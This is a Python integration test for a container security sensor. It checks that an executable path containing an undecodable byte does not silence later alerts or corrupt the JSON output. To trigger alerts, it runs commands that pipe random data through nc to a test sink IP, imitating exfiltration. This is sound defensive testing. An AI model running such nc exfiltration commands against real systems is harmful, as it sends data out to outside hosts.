"""Finding 1: one odd file name must not silence every later alert."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.privileged.harness import SINK_IP, Docker, SensorProc, SinkNet, cid_of, run_container


def _alerts(s: SensorProc, cid: str) -> list[dict[str, Any]]:
    return [d for d in s.docs() if d["event"]["kind"] == "alert" and cid_of(d) == cid]


def test_an_undecodable_executable_path_does_not_stop_the_output(base: Path, docker: Docker, net: SinkNet) -> None:
    s = SensorProc(base, docker.sock, name="odd-exe")
    s.start()
    try:
        # busybox copied to /tmp/d<0xff>/: its applets (nc here) exec
        # through /proc/self/exe, so the sensor reads the path with readlink
        # (nc lives on for 8 s so that the sensor finds it alive even when it
        # lags behind on a loaded machine)
        odd = run_container(
            docker,
            net,
            "d=/tmp/d$(printf '\\377'); mkdir -p $d; cp /bin/busybox $d/busybox; "
            f"$d/busybox sh -c '(head -c 300000 /dev/urandom; sleep 8) | nc {SINK_IP} 9001'",
        )
        odd_alert = s.wait_for(
            lambda d: d["event"]["kind"] == "alert" and cid_of(d) == odd, timeout=20, what="the odd container's alert"
        )
        exe = odd_alert.get("process", {}).get("executable", "")
        assert exe.startswith("/tmp/d\\xff/"), odd_alert.get("process")
        # later: another container exfiltrates; its alert must still be written
        later = run_container(docker, net, f"head -c 300000 /dev/urandom | nc {SINK_IP} 9002")
        s.wait_for(lambda d: d["event"]["kind"] == "alert" and cid_of(d) == later, timeout=20, what="the later alert")
        s.status()  # health still answers
    finally:
        assert s.stop() == 0, s.stderr_text()
    raw = s.out.read_bytes()
    raw.decode("utf-8")  # the whole file is valid UTF-8
    lines = raw.splitlines()
    assert all(json.loads(x) for x in lines)
    stop = [json.loads(x) for x in lines if b'"sensor_stop"' in x]
    assert stop and stop[0]["sluice"]["health"]["output"]["writer_restarts"] == 0
